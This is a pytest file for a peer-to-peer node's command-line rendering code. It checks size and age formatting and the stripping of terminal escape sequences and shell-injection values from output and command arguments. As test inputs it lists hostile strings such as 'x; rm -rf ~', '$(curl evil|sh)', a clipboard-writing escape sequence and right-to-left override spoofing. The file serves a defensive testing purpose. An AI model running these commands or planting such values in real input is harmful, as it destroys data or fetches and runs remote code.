"""What reaches a terminal: sizes and ages as people read them, and nothing that commands it."""

import json
import shlex

import pytest

from node.cli.render import (
    Screen,
    as_argument,
    describe_error,
    format_address,
    format_age,
    format_bytes,
    format_did,
    printable,
)
from node.errors import ControlFailed, UsageInvalid


@pytest.mark.parametrize(
    ("count", "text"), [(0, "0 B"), (999, "999 B"), (1000, "1.0 kB"), (5_873_000, "5.9 MB"), (3 * 10**15, "3000.0 TB")]
)
def test_sizes(count: int, text: str) -> None:
    assert format_bytes(count) == text


@pytest.mark.parametrize(
    ("seconds", "text"),
    [(-3, "0 s ago"), (59, "59 s ago"), (60, "1 min ago"), (7200, "2 h ago"), (200_000, "2 days ago")],
)
def test_ages(seconds: float, text: str) -> None:
    assert format_age(seconds) == text


def test_addresses() -> None:
    assert format_address("/ip4/127.0.0.1/tcp/4001/p2p/12D3Koo") == "127.0.0.1:4001"
    assert format_address("/ip6/fd00::2/tcp/4001") == "[fd00::2]:4001"
    assert format_address("/dns/example/tcp/1") == "/dns/example/tcp/1"


def test_a_did_is_shown_by_its_ends() -> None:
    assert format_did("did:key:z6MkjchhfUsD6mmvni8mCdXHw216Xrm9bQe2mBH1P5RDjVJG") == "did:key:z6Mk…jVJG"
    assert format_did("") == ""


@pytest.mark.parametrize(
    "hostile",
    ["\x1b[2J\x1b[H", "\x1b]52;c;cm0gLXJm\x07", "\u202ecod.exe", "\x9b31m", "a\rb", "\x00", "\u2028", "\x1b[31;5m"],
)
def test_what_other_devices_wrote_does_not_command_the_terminal(hostile: str) -> None:
    shown = printable(f"before {hostile} after")
    assert not set(shown) & set("\x1b\x9b\x07\r\x00\u202e\u2028")
    assert shown.startswith("before ")
    assert shown.endswith(" after")


@pytest.mark.parametrize("hostile", ["\x7f", "\x9b31m", "\u202ecod.exe", "\u2066", "\u2028", "\ud800"])
def test_nor_does_it_in_json(hostile: str, capsys: pytest.CaptureFixture[str]) -> None:
    Screen(json_wanted=True).facts({"file": hostile, hostile: 1})
    said = capsys.readouterr().out
    assert hostile not in said
    assert json.loads(said) == {"schema": 1, "file": hostile, hostile: 1}


@pytest.mark.parametrize("nickname", ["kitchen", "Küche", "mac-mini_2.local", "Anns Mac"])
def test_a_plain_nickname_names_a_device_in_a_command(nickname: str) -> None:
    assert shlex.split(f"tilenode link disable {as_argument(nickname, 'DID')}")[3:] == [nickname]


@pytest.mark.parametrize(
    "hostile",
    ["x; rm -rf ~", "$(curl evil|sh)", "`id`", "a&b", "--help", "-x", "it's", "a\nb", "~", "*", "", "x\u00a0y", "!!"],
)
def test_a_nickname_that_a_shell_would_act_on_is_not_put_into_a_command(hostile: str) -> None:
    assert as_argument(hostile, "did:key:z6Mk") == "did:key:z6Mk"


def test_ordinary_text_is_shown_as_it_is() -> None:
    text = "zwölf Häuser, 12 чаек\n\tنص فارسی: می\u200cخواهم 👩\u200d💻"
    assert printable(text) == text


def test_an_answer_is_cleaned_while_it_grows(capsys: pytest.CaptureFixture[str]) -> None:
    Screen().piece("one \x1b[2Jtwo")
    assert capsys.readouterr().out == "one [2Jtwo"


def test_a_failure_is_message_and_hint_on_lines_of_their_own(capsys: pytest.CaptureFixture[str]) -> None:
    code = Screen().fail(UsageInvalid("no such \x1b[2Jthing", "try another"))
    assert code == 2
    assert capsys.readouterr().err == "error: no such [2Jthing\nhint: try another\n"


def test_json_errors_are_on_standard_output(capsys: pytest.CaptureFixture[str]) -> None:
    Screen(json_wanted=True).fail(ControlFailed("TicketUsed", "used", "another", 22))
    told = json.loads(capsys.readouterr().out)
    assert told == {
        "schema": 1,
        "error": {"kind": "TicketUsed", "message": "used", "hint": "another", "exit_code": 22},
    }


def test_json_leaves_people_without_lines(capsys: pytest.CaptureFixture[str]) -> None:
    screen = Screen(json_wanted=True)
    screen.say("for people")
    screen.done("done", "go on", "tilenode status")
    screen.table(("A",), [("b",)])
    screen.facts({"a": "ü"})
    assert capsys.readouterr().out == '{"schema": 1, "a": "ü"}\n'


def test_a_defect_asks_to_be_reported() -> None:
    told = describe_error(ZeroDivisionError("division by zero"))
    assert told["exit_code"] == 1
    assert "--debug" in str(told["hint"])
